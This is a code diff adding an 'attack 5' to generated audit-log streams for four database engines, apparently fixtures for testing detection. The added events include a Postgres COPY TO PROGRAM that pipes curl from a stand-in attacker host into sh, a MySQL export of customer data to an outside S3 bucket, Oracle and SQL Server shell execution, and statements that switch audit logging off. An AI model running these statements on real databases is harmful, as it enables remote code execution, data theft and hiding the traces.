@@ -189,6 +189,27 @@ def postgres() -> Stream:
             exit="28P01",
             err='password authentication failed for user "postgres"',
         )
+    # Attack 5: the guessing worked. The attacker logs in as the master user, runs a shell
+    # command through COPY ... PROGRAM and switches the audit log off.
+    hit = {
+        "host": ATTACKER,
+        "port": "40108",
+        "session": "6745a44a.4001",
+        "pid": 11100,
+        "app": "psql",
+        "db": "postgres",
+    }
+    ev(150.0, "postgres", "MISC", "CONNECT", None, stmt=1, **hit)
+    ev(
+        152.0,
+        "postgres",
+        "READ",
+        "COPY",
+        f"COPY (SELECT '') TO PROGRAM 'curl -s http://{ATTACKER}/x.sh | sh'",
+        **hit,
+    )
+    ev(155.0, "postgres", "MISC", "ALTER SYSTEM", "ALTER SYSTEM SET pgaudit.log = 'none'", **hit)
+    ev(158.0, "postgres", "MISC", "DISCONNECT", None, **hit)
     # Attacks 2-4 by the application account (stolen credentials): DDL, bulk read, password.
     sess = {
         "session": "6745a4b2.3f10",
@@ -376,6 +397,14 @@ def mysql() -> Stream:
         rows=250000,
         **sess,
     )
+    query(  # attack 5: the customers table exported to a bucket that is not the site's
+        320.0,
+        "app_web",
+        "SELECT * FROM `shop`.`customers` INTO OUTFILE S3 "
+        "'s3-eu-west-1://exfil-drop-7731/customers' FORMAT CSV",
+        [("READ", "customers")],
+        **sess,
+    )
     query(330.0, "app_web", "DROP TABLE `shop`.`tmp_dump`", [("DROP", "tmp_dump")], **sess)
     query(340.0, "app_web", "SET PASSWORD = 'Web-Autumn-2026!'", [], **sess)
     query(341.0, "app_web", "CREATE USER 'svc_tmp'@'%' IDENTIFIED BY 'Tmp-Pass-2026'", [], **sess)
@@ -551,6 +580,17 @@ def oracle() -> Stream:
         obj="EMPLOYEES",
         schema="APP_HR",
         stmt=3,
+        **sess,
+    )
+    ev(  # attack 5: an operating-system command through an external scheduler job
+        420.0,
+        "APP_HR",
+        "EXECUTE",
+        "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'HR_SYNC', job_type => 'EXECUTABLE', "
+        "job_action => '/bin/sh', number_of_arguments => 2, enabled => FALSE); END;",
+        obj="DBMS_SCHEDULER",
+        schema="SYS",
+        stmt=8,
         **sess,
     )
     ev(
@@ -800,6 +840,30 @@ def sqlserver() -> Stream:
         obj_type="TABLE",
         schema="dbo",
         ms=4180,
+        **sess,
+    )
+    # Attack 5: xp_cmdshell switched on and used, then the server audit specification off.
+    ev(
+        510.0,
+        "app_billing",
+        "EXTENDED STORED PROCEDURE",
+        "EXECUTE",
+        "EXEC xp_cmdshell 'whoami /all'",
+        obj="xp_cmdshell",
+        obj_type="EXTENDED STORED PROCEDURE",
+        db="master",
+        schema="sys",
+        **sess,
+    )
+    ev(
+        515.0,
+        "app_billing",
+        "SERVER AUDIT SPECIFICATION",
+        "ALTER",
+        "ALTER SERVER AUDIT SPECIFICATION [RDS_DAS_SERVER_AUDIT_SPEC] WITH (STATE = OFF)",
+        obj="RDS_DAS_SERVER_AUDIT_SPEC",
+        obj_type="SERVER AUDIT SPECIFICATION",
+        db="master",
         **sess,
     )
     ev(
